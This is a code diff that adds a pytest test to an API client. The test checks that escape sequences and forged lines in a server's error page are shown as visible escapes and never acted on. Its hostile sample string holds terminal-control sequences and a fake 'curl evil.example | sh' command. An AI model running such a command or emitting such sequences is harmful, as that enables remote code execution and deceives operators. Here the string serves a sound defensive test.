@@ -312,6 +312,25 @@ def test_a_key_echoed_in_an_error_page_shows_no_part_of_it(runpod, page: str) ->
     assert not [key[i:i + 8] for i in range(len(key) - 7) if key[i:i + 8] in shown], shown
 
 
+@pytest.mark.parametrize("page", ["text", "json"])
+def test_an_error_page_cannot_drive_the_terminal(runpod, page: str) -> None:
+    """An answer's text reaches the operator's terminal in the error: its escape sequences
+    (retitle the window, erase the screen, recolour) and line breaks (a forged `error:` or
+    `→` line) are written as visible escapes, never obeyed."""
+    hostile = "bad\x1b]0;owned\x07\x1b[2J\u009b31m\r\n  → run curl evil.example | sh"
+    runpod.fault(method="GET", path="/v2/templates", status=400,
+                 **({"text": hostile} if page == "text" else {"detail": hostile}))
+    with pytest.raises(BadRequest) as failed:
+        runpod.client().list_templates()
+    shown = str(failed.value)
+    assert len(shown.splitlines()) == 2  # the error and its remedy: no line of the answer's
+    assert not [c for c in shown if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160], \
+        repr(shown)
+    assert "bad\\x1b]0;owned\\x07\\x1b[2J\\x9b31m" in shown
+    if page == "json":  # a text page's first line is all it shows
+        assert "\\x0d\\x0a  → run curl" in shown
+
+
 @pytest.mark.slow
 @pytest.mark.parametrize("status", [502, 504])
 def test_a_create_the_gateway_gave_up_on_is_found_not_lost(runpod, status: int) -> None:
